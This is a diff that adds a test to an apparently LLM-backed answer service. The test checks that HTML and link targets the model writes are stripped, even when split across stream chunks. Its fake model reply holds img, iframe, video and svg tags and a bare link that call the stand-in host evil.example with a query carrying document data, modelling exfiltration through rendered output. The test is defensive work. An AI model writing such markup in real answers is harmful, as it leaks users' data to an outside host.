@@ -380,6 +380,35 @@ def test_links_the_model_writes_lose_targets_that_are_not_the_evidence(
     assert "".join(tokens).startswith("Refunds are paid within 5 days")
 
 
+def test_html_the_model_writes_fetches_nothing_foreign(
+    llm_app: Callable[..., TestClient], make_token: TokenFactory
+) -> None:
+    """Tags over two lines, tags other than `<a>`/`<img>`, `https:/\\host` and `//host`
+    targets: a client rendering the answer as HTML fetches none of them."""
+
+    def reply(blocks: dict[int, str]) -> str:
+        n = next(n for n, text in blocks.items() if "RPL-14" in text)
+        return (
+            f'Refunds are paid within 5 days [{n}]. <img\nsrc="//evil.example/p.png?q=RPL-14">'
+            ' <iframe src="https:/\\evil.example/?q=RPL-14"></iframe>'
+            ' <video poster="//evil.example/p.png?q=RPL-14"></video>'
+            ' <svg><image href="//evil.example/i.png"/></svg> see //evil.example/q done.'
+        )
+
+    def in_threes(text: str) -> list[str]:  # tags split mid-way across stream chunks
+        return [text[i : i + 3] for i in range(0, len(text), 3)]
+
+    client = llm_app(FakeLlm(reply, split=in_threes))
+    payload = ask(client, make_token(**ALICE))
+    assert "evil.example" not in json.dumps(payload)
+    assert payload["answer"].startswith("Refunds are paid within 5 days [1].")
+    streamed = client.post(
+        "/answer", json={"query": QUESTION, "stream": True}, headers=bearer(make_token(**ALICE))
+    )
+    assert streamed.status_code == 200 and "evil.example" not in streamed.text
+    assert "Refunds are paid within 5 days" in streamed.text
+
+
 def test_answers_beyond_the_llm_bound_are_refused_at_once_and_slots_come_back(
     llm_app: Callable[..., TestClient], make_token: TokenFactory, tmp_path: Path
 ) -> None:
